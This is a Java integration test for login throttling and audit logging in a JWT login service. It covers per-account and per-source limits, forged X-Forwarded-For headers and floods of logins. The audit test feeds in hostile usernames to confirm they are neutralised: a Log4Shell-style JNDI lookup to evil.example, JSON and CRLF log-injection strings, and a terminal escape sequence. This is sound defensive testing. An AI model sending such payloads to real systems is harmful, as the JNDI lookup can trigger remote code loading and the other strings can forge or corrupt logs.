// SPDX-License-Identifier: Apache-2.0
package org.jwtfilter.payara;

import static org.assertj.core.api.Assertions.assertThat;

import java.net.http.HttpRequest.BodyPublishers;
import java.nio.file.Files;
import java.nio.file.Path;
import java.nio.file.attribute.PosixFilePermissions;
import java.time.Duration;
import java.util.ArrayList;
import java.util.List;
import java.util.Map;
import java.util.concurrent.CompletableFuture;
import java.util.concurrent.ExecutorService;
import java.util.concurrent.Executors;
import org.junit.jupiter.api.AfterAll;
import org.junit.jupiter.api.BeforeAll;
import org.junit.jupiter.api.Test;
import org.jwtfilter.demo.PayaraMicro;

/**
 * The login WAR behind a proxy that it believes, so that a test can come from where it likes. The limits are small, and so slow that nothing
 * is forgotten during the test.
 */
class ThrottleIT {
    private static final int AT_SOURCE = 4;
    private static final int ACCOUNT = 8;
    private static final int SOURCE = 15;
    private static final String WRONG = "not-the-password-of-anybody";

    private static Path auditFile;
    private static Site site;
    private static PayaraMicro server;

    @BeforeAll
    static void start() throws Exception {
        Path directory = Servers.emptyDirectory("throttle");
        int port = Servers.freePort();
        site = new Site(port);
        auditFile = directory.resolve("audit.jsonl");
        Map<String, String> properties = Servers.properties(port, directory);
        properties.put("jwt.login.proxies", "127.0.0.1, 10.0.0.0/8");
        properties.put("jwt.login.throttle.account-at-source", AT_SOURCE + "/PT1H");
        properties.put("jwt.login.throttle.account", ACCOUNT + "/PT2H");
        properties.put("jwt.login.throttle.source", SOURCE + "/PT3H");
        properties.put("jwt.login.password.parallel", "1");
        properties.put("jwt.login.audit.file", auditFile.toString());
        server = Servers.start(port, directory, properties, "jwt-login.war");
    }

    @AfterAll
    static void stop() {
        server.close();
    }

    @Test
    void refusesAfterTooManyWrongPasswordsForASpellingOfOneName() {
        String[] spellings = {"carol", "CAROL", "%20carol%20", "%EF%BD%83arol"};
        for (int i = 0; i < AT_SOURCE; i++) {
            assertThat(login(spellings[i], WRONG, "192.0.2.1").status()).isEqualTo(401);
        }
        for (String spelling : spellings) {
            assertThrottled(login(spelling, WRONG, "192.0.2.1"), Duration.ofHours(1));
        }
        assertThat(login("carol", WRONG, "192.0.2.2").status()).isEqualTo(401);
    }

    @Test
    void throttlesUnknownUsersAsItDoesKnownOnes() {
        List<Answer> known = new ArrayList<>();
        List<Answer> unknown = new ArrayList<>();
        for (int i = 0; i <= AT_SOURCE; i++) {
            known.add(login("bob", WRONG, "192.0.2.3"));
            unknown.add(login("nobody", WRONG, "192.0.2.4"));
        }
        for (int i = 0; i <= AT_SOURCE; i++) {
            assertThat(unknown.get(i).status()).isEqualTo(known.get(i).status());
            assertThat(unknown.get(i).body()).isEqualTo(known.get(i).body());
        }
        assertThrottled(unknown.get(AT_SOURCE), Duration.ofHours(1));
    }

    @Test
    void letsAliceInFromWhereSheLoggedInBeforeWhileOthersGuessEverywhere() {
        assertThat(login("alice", TestUsers.ALICE_PASSWORD, "192.0.2.10").status())
                .isEqualTo(200);
        for (int i = 0; i < ACCOUNT; i++) {
            assertThat(login("alice", WRONG, "198.51.100." + i).status()).isEqualTo(401);
        }
        assertThrottled(login("alice", TestUsers.ALICE_PASSWORD, "198.51.100.99"), Duration.ofHours(2));

        for (int i = 0; i < 2 * AT_SOURCE; i++) {
            assertThat(login("alice", TestUsers.ALICE_PASSWORD, "192.0.2.10").status())
                    .isEqualTo(200);
        }
        assertThrottled(login("alice", WRONG, "198.51.100.99"), Duration.ofHours(2));
    }

    @Test
    void stopsOnePasswordForManyNamesAndNoForgedHopHelps() {
        for (int i = 0; i < SOURCE; i++) {
            assertThat(login("user" + i, WRONG, "6.6.6." + i + ", 203.0.113.7, 10.1.2.3")
                            .status())
                    .isEqualTo(401);
        }
        assertThrottled(login("another", WRONG, "203.0.113.7"), Duration.ofHours(3));
        assertThrottled(login("another", WRONG, "6.6.6.99, 203.0.113.7"), Duration.ofHours(3));
        assertThrottled(login("another", WRONG, "nonsense, 203.0.113.7:1234"), Duration.ofHours(3));
        assertThat(login("another", WRONG, "203.0.113.8").status()).isEqualTo(401);
    }

    @Test
    void countsAnIpv6NetworkAsOneSource() {
        for (int i = 0; i < AT_SOURCE; i++) {
            assertThat(login("dave", WRONG, "2001:db8:7:7::" + i).status()).isEqualTo(401);
        }
        assertThrottled(login("dave", WRONG, "2001:db8:7:7:ffff::1"), Duration.ofHours(1));
        assertThat(login("dave", WRONG, "2001:db8:7:8::1").status()).isEqualTo(401);
    }

    @Test
    void givesManyAtTheSameMomentNoMoreThanOneAfterTheOther() throws Exception {
        ExecutorService threads = Executors.newFixedThreadPool(30);
        try {
            List<CompletableFuture<Integer>> answers = new ArrayList<>();
            for (int i = 0; i < 30; i++) {
                answers.add(CompletableFuture.supplyAsync(
                        () -> login("erin", WRONG, "192.0.2.50").status(), threads));
            }
            List<Integer> statuses = new ArrayList<>();
            for (CompletableFuture<Integer> answer : answers) {
                statuses.add(answer.get());
            }
            // Whoever finds no place to wait in gets 503; with the places that there are by default, nobody need.
            assertThat(statuses).isSubsetOf(401, 429, 503).contains(429);
            assertThat(statuses.stream().filter(status -> status == 401).count())
                    .isBetween(1L, (long) AT_SOURCE);
        } finally {
            threads.shutdownNow();
        }
    }

    @Test
    void goesOnRefreshingUnderAFloodOfLogins() throws Exception {
        String token = login("bob", TestUsers.BOB_PASSWORD, "192.0.2.60").member("refresh_token");
        ExecutorService threads = Executors.newFixedThreadPool(40);
        try {
            List<CompletableFuture<Answer>> flood = new ArrayList<>();
            for (int i = 0; i < 200; i++) {
                String name = "flood" + i;
                String source = "203.0.114." + i;
                flood.add(CompletableFuture.supplyAsync(() -> login(name, WRONG, source), threads));
            }
            for (int i = 0; i < 20; i++) {
                Answer refreshed = site.post(
                        "/jwt-login/token",
                        "application/x-www-form-urlencoded",
                        "grant_type=refresh_token&refresh_token=" + token);
                assertThat(refreshed.status()).isEqualTo(200);
                token = refreshed.member("refresh_token");
            }
            int busy = 0;
            for (CompletableFuture<Answer> answer : flood) {
                if (answer.get().status() == 503) {
                    assertThat(answer.get().header("Retry-After")).matches("[1-9][0-9]*");
                    assertThat(answer.get().member("error")).isEqualTo("temporarily_unavailable");
                    busy++;
                } else {
                    assertThat(answer.get().status()).isEqualTo(401);
                }
            }
            assertThat(busy).as("answers 503").isPositive();
        } finally {
            threads.shutdownNow();
        }
    }

    @Test
    void writesEveryDecisionDownOnOneLineWithoutSecrets() throws Exception {
        String secret = "a-secret-that-no-file-may-show";
        login("frank", secret, "192.0.2.70");
        login("bob", TestUsers.BOB_PASSWORD, "192.0.2.71");
        login("%24%7Bjndi%3Aldap%3A%2F%2Fevil.example%2Fa%7D", secret, "192.0.2.72");
        login("%22%2C%22event%22%3A%22login", secret, "192.0.2.73");
        login("mallory%0D%0A%7B%22event%22%3A%22login%22%7D", secret, "192.0.2.74");
        login("mallory%1B%5B2J", secret, "192.0.2.75");

        List<String> lines = Files.readAllLines(auditFile);
        assertThat(lines.get(0)).contains("\"event\":\"started\"");
        assertThat(lines)
                .allMatch(line -> line.matches("\\{\"time\":\"[0-9T:.-]+Z\",\"event\":\"[a-z.]+\"[\\x20-\\x7e]*}"))
                .anyMatch(line ->
                        line.contains("\"event\":\"login.refused\",\"user\":\"frank\",\"source\":\"192.0.2.70\"")
                                && line.contains("\"reason\":\"wrong-credentials\""))
                .anyMatch(line -> line.contains("\"event\":\"login\",\"user\":\"bob\",\"source\":\"192.0.2.71\""))
                .anyMatch(line -> line.contains("\"user\":\"\\u0024{jndi:ldap://evil.example/a}\""))
                .anyMatch(line -> line.contains("\"user\":\"\\u0022,\\u0022event\\u0022:\\u0022login\""))
                .noneMatch(line -> line.contains("mallory"));
        assertThat(String.join("\n", lines)).doesNotContain(secret, TestUsers.ALICE_PASSWORD, "${");
        assertThat(Files.getPosixFilePermissions(auditFile)).isEqualTo(PosixFilePermissions.fromString("rw-------"));
        assertThat(server.output())
                .doesNotContain(secret, TestUsers.ALICE_PASSWORD, TestUsers.BOB_PASSWORD, WRONG, "${jndi", "\u001b[2J");
    }

    private static Answer login(String name, String password, String forwardedFor) {
        return site.send(site.request("/jwt-login/login")
                .header("Content-Type", "application/x-www-form-urlencoded")
                .header("X-Forwarded-For", forwardedFor)
                .POST(BodyPublishers.ofString("username=" + name + "&password=" + password)));
    }

    private static void assertThrottled(Answer answer, Duration atMost) {
        assertThat(answer.status()).isEqualTo(429);
        assertThat(answer.member("error")).isEqualTo("temporarily_unavailable");
        assertThat(answer.header("Cache-Control")).contains("no-store");
        assertThat(Long.parseLong(answer.header("Retry-After"))).isBetween(1L, atMost.toSeconds());
    }
}
